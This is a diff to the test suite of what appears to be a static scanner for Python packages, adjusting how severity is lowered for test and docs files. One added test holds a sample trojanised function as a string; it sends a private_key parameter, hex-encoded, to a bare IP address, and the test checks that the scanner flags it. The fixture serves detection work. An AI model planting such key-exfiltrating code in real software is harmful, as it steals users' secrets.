@@ -130,8 +130,13 @@ def test_exec_of_file_in_benchmark_is_not_critical():
 
 
 def test_tests_are_lowered_one_step_but_never_skipped():
-    src = "import requests\nrequests.get('https://example.invalid')\n"
-    assert caps("tests/test_net.py", src)["net.outbound"] == "medium"
+    src = "def run(code):\n    exec(code)\n"
+    assert caps("pkg/runner.py", src)["exec.dynamic"] == "medium"
+    assert caps("tests/test_runner.py", src)["exec.dynamic"] == "low"
+    assert caps("docs/conf_helper.py", src)["exec.dynamic"] == "low"
+    # import-time weight is for code users import; a test module is run by developers
+    top = "import requests\nrequests.get('https://example.invalid')\n"
+    assert caps("tests/test_net.py", top)["net.outbound"] == "low"
 
 
 def test_alias_resolution_and_name_folding():
@@ -206,3 +211,14 @@ def test_version_exec_in_setup_py_is_not_an_install_threat():
     found = caps("setup.py", src)
     assert severity_rank(found.get("exec.dynamic", "none")) <= severity_rank("low")
     assert "install.setup_code" not in found
+
+
+def test_trojanised_function_sends_its_key_parameter_to_a_bare_ip():
+    src = ("import requests\nURL = 'http://203.0.113.50:8000/api'\n\n"
+           "def validate(private_key, rpc):\n    payload = {'sig': private_key.encode().hex()}\n"
+           "    return requests.post(URL, json=payload)\n")
+    found = caps("chainpkg/__init__.py", src)
+    assert found["net.outbound"] == "high" and found["net.exfil_endpoint"] == "high"
+    benign = ("import requests\n\ndef fetch(session_id):\n"
+              "    return requests.post('https://example.invalid/api', json={'id': session_id})\n")
+    assert caps("pkg/api.py", benign) == {"net.outbound": "low"}
